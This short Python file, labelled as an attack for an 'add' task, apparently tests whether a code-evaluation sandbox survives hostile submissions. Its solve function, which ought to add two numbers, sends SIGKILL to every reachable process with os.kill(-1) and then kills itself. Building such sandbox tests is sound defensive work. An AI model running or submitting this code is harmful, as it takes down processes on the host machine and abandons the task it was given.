# Attack: everything that can be reached is killed.
# task: add
# runs: always
import os
import signal


def solve(a, b):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
